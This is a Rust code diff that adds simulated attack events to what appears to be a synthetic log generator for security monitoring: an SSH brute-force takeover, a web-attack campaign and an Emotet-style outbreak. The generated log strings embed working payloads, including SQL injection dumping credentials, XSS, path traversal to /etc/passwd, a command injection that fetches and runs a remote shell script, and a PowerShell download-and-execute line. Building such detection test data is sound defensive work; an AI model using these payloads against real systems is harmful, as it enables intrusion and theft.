@@ -453,6 +453,117 @@ impl Traffic {
             .collect()
     }
 
+    /// A brute force on a server's SSH that finds the password:
+    /// `failures` failed logons as `admin` from one attacker, then the
+    /// success — the takeover the figures count.
+    pub fn ssh_takeover(&mut self, failures: usize) -> Vec<String> {
+        let host = self.rng.pick(&self.p.servers).clone();
+        let ip = "45.95.147.236";
+        let mut v: Vec<String> = (0..failures)
+            .map(|i| {
+                format!(
+                    "<38>{} {host} sshd[{}]: Failed password for admin from {ip} port {} ssh2",
+                    self.bsd,
+                    30_000 + i,
+                    50_000 + i
+                )
+            })
+            .collect();
+        v.push(format!(
+            "<38>{} {host} sshd[31999]: Accepted password for admin from {ip} port 51999 ssh2",
+            self.bsd
+        ));
+        v
+    }
+
+    /// A web-attack campaign from one address against a commune website:
+    /// a scanner's probes, SQL injection, XSS, traversal, command
+    /// injection and a web shell, mostly refused (403/404), some answered.
+    pub fn web_campaign(&mut self) -> Vec<String> {
+        let site = self.p.websites.last().cloned().unwrap_or_default();
+        let ip = "185.220.101.47";
+        const CAMPAIGN: &[(&str, u16, &str)] = &[
+            (
+                "/.env",
+                404,
+                "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
+            ),
+            (
+                "/.git/config",
+                404,
+                "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
+            ),
+            (
+                "/tin-tuc/chi-tiet.php?id=12%27%20and%201%3D1--",
+                200,
+                "sqlmap/1.8.4#stable (https://sqlmap.org)",
+            ),
+            (
+                "/tin-tuc/chi-tiet.php?id=-12%20union%20all%20select%201,concat(user,0x3a,password),3%20from%20nguoidung--",
+                200,
+                "sqlmap/1.8.4#stable (https://sqlmap.org)",
+            ),
+            (
+                "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+                200,
+                "Mozilla/5.0",
+            ),
+            (
+                "/tai-lieu/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
+                403,
+                "Mozilla/5.0",
+            ),
+            (
+                "/lien-he.php?email=a%40b.vn%3Bwget%20http%3A%2F%2F185.220.101.47%2Fx.sh%7Csh",
+                500,
+                "Mozilla/5.0",
+            ),
+            ("/uploads/2026/wso.php", 404, "Mozilla/5.0"),
+            ("/uploads/images/shell.php?cmd=whoami", 200, "Mozilla/5.0"),
+        ];
+        CAMPAIGN
+            .iter()
+            .map(|(path, status, ua)| {
+                format!(
+                    "<190>{} {site} nginx: {ip} - - [{}] \"GET {path} HTTP/1.1\" {status} 512 \"-\" \"{ua}\"",
+                    self.bsd, self.clf
+                )
+            })
+            .collect()
+    }
+
+    /// A malware outbreak in one agency: on `n` PCs a Word document starts
+    /// PowerShell, and Windows Defender then reports the trojan.
+    pub fn malware_outbreak(&mut self, n: usize) -> Vec<String> {
+        let (agency, ip) = self.lan_host();
+        let ts = Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
+        (0..n)
+            .flat_map(|i| {
+                let pc = format!("PC-{agency}-{:03}", 100 + i);
+                [
+                    serde_json::json!({
+                        "@timestamp": ts, "host": {"name": pc, "ip": [ip]},
+                        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "computer_name": pc,
+                            "provider_name": "Microsoft-Windows-Sysmon",
+                            "event_data": {"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                                "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                                "CommandLine": "powershell.exe -nop -w hidden -c \"iex (iwr http://103.97.125.19/ky-luat.ps1)\"",
+                                "User": format!("{agency}\\nhanvien{i}")}}
+                    })
+                    .to_string(),
+                    serde_json::json!({
+                        "@timestamp": ts, "host": {"name": pc, "ip": [ip]},
+                        "winlog": {"channel": "Microsoft-Windows-Windows Defender/Operational", "event_id": 1116, "computer_name": pc,
+                            "provider_name": "Microsoft-Windows-Windows Defender",
+                            "event_data": {"Threat Name": "Trojan:Win32/Emotet.RPX!MTB", "Severity Name": "Severe",
+                                "Path": format!("file:_C:\\Users\\nhanvien{i}\\Downloads\\QD-ky-luat-2026.doc")}}
+                    })
+                    .to_string(),
+                ]
+            })
+            .collect()
+    }
+
     /// `n` requests of one source at the first website, answered 503.
     pub fn web_flood(&mut self, n: usize) -> Vec<String> {
         let site = self.p.websites[0].clone();
